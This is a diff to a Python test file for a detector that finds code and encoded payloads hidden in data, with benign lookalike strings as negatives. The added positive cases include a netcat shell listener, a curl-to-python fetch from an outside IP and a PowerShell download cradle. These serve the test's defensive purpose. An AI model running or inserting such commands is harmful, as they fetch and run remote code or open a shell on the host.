@@ -67,6 +67,9 @@ CODE = [
     "import os\nprint(os.getcwd())",
     "from subprocess import run;run('id');open('x')",
     "\\u005f\\u005fimport__('os')",
+    "nc -lvp 4444 -e /bin/bash",
+    "#!/usr/bin/env python3\nprint(1)",
+    "curl http://203.0.113.7/a | python3 -",
 ]
 
 
@@ -79,7 +82,13 @@ def test_code_among_settings_or_numbers(text: str) -> None:
     ]
 
 
+# What vocabularies, tables and documentation hold.
 ORDINARY = [
+    '{"__import__(": 1, "os": 2, "system(": 3, "nc": 4, "pre-existing": 5, "-e": 6}',
+    "#!/usr/bin/ env\n#!/ usr\n#!/bin/ bash\n",
+    '{"#!/bin/bash": 1, "<script>": 2, "alert": 3, "fetch": 4, "document": 5}',
+    "| curl | bash | wget |",
+    "curl -s https://example.org/a | python -m json.tool",
     "the operating system: os. It can import os and evaluate(x)",
     "import",
     "You can call exec(code) in the sandbox",
@@ -103,7 +112,10 @@ def test_ordinary_words_are_no_code(text: str, *, prose: bool) -> None:
     assert of_bytes(text.encode()) == []
 
 
-@pytest.mark.parametrize("data", [elf(), pe(), PICKLE, SOURCE, zlib.compress(SOURCE * 3 + NOISE[:200])])
+WIDE = ("IEX (New-Object Net.WebClient).DownloadString('http://203.0.113.7/a')" * 2).encode("utf-16-le")
+
+
+@pytest.mark.parametrize("data", [elf(), pe(), PICKLE, SOURCE, WIDE, zlib.compress(SOURCE * 3 + NOISE[:200])])
 def test_encoded_payloads(data: bytes) -> None:
     padded = data + bytes(-len(data) % 3)
     for encoded in (
